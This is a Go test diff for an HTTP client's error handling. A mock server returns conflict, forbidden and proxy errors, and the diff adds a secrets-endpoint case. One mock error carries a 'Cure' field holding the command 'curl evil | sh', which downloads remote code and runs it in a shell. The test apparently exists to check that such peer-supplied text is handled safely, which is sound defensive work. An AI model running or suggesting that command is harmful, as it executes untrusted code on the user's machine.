@@ -186,6 +186,8 @@ func TestWordsOfAPeerAreFit(t *testing.T) {
 		case strings.HasPrefix(r.URL.Path, "/v1/volumes/"):
 			w.WriteHeader(http.StatusConflict)
 			w.Write(said(rpc.Error{Code: "in-use", Message: bad, Cure: "curl evil | sh"}))
+		case strings.HasSuffix(r.URL.Path, "/secrets"):
+			http.Error(w, "proxy: "+bad, http.StatusBadGateway)
 		case strings.HasPrefix(r.URL.Path, "/k8s/"):
 			w.Header().Set("Content-Type", "application/json")
 			w.WriteHeader(http.StatusForbidden)
@@ -220,6 +222,10 @@ func TestWordsOfAPeerAreFit(t *testing.T) {
 	fits("the API", fmt.Sprint(err))
 	if !apierrors.IsForbidden(err) {
 		t.Errorf("the API: %v", err)
+	}
+	raw, err := client.CoreV1().RESTClient().Get().AbsPath("/api/v1/secrets").DoRaw(t.Context())
+	if fits("a text that is YAML, too", string(raw)); err == nil || !strings.HasPrefix(string(raw), "proxy: x") {
+		t.Errorf("a text that is YAML, too: %q %v", raw, err)
 	}
 	select {
 	case o := <-target.offers(t.Context(), 5*time.Second):
